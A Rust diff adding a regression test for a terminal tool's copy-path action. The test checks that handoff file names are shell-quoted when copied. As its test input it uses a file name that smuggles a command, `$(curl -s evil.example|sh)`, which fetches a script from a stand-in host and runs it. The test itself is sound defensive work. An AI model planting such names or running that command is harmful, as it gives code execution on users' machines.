@@ -737,6 +737,33 @@ fn y_copies_the_handoff_path_or_the_session_id_and_ctrl_z_suspends() {
     assert_eq!(m.help_scroll, 0);
 }
 
+/// Issue 31, row 7: a handoff a repository ships may be named
+/// `agent-T-1$(curl -s evil.example|sh)-….md`; `y` copied that path raw, and a
+/// paste into a shell ran it. Now what is copied is quoted for a shell whenever it
+/// holds more than a path's plain characters.
+#[test]
+fn y_copies_a_hostile_handoff_name_quoted_for_a_shell() {
+    let mut m = model();
+    let hostile = "agent-T-1$(curl -s evil.example|sh)-20261121-120000.md";
+    m.snapshot.handoffs.insert(0, entry(hostile, BLOCKED));
+    m.start();
+    let at = m.visible().position(|h| h.file_name == hostile).unwrap();
+    m.selected = at;
+    let got = press(&mut m, Key::Char('y'));
+    let want = format!("'/p/.forge/handoffs/{hostile}'");
+    assert_eq!(got, [Effect::Copy(want)]);
+    // A quote inside is closed, escaped and reopened.
+    assert_eq!(
+        super::update::for_clipboard("/p/it's $(x).md"),
+        "'/p/it'\\''s $(x).md'"
+    );
+    // A plain path stays as it is.
+    assert_eq!(
+        super::update::for_clipboard("/p/.forge/handoffs/handoff-20261121-110000.md"),
+        "/p/.forge/handoffs/handoff-20261121-110000.md"
+    );
+}
+
 fn git_at(at: &str, branch: &str, n: u64) -> crate::model::session::state::GitCache {
     crate::model::session::state::GitCache {
         updated_at: at.into(),
